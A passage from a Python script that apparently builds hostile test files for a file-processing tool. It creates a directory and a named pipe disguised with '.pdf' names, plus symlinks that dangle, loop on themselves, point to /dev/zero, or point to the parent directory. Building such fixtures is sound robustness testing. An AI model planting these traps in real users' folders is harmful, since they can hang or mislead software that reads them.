    (folder / "a-folder.pdf").mkdir(exist_ok=True)
    if not (folder / "a-pipe.pdf").exists():
        os.mkfifo(folder / "a-pipe.pdf")
    for name, target in (
        ("nowhere.pdf", "gone.pdf"),
        ("ring.pdf", "ring.pdf"),
        ("zeros.txt", "/dev/zero"),
        ("up", ".."),
    ):
        if not (folder / name).is_symlink():
            (folder / name).symlink_to(target)
    return written


if __name__ == "__main__":
    for made in write_hostile_files(Path(sys.argv[1]), slow="--slow" in sys.argv):
        print(f"{made.outcome:8} {made.name!r}")
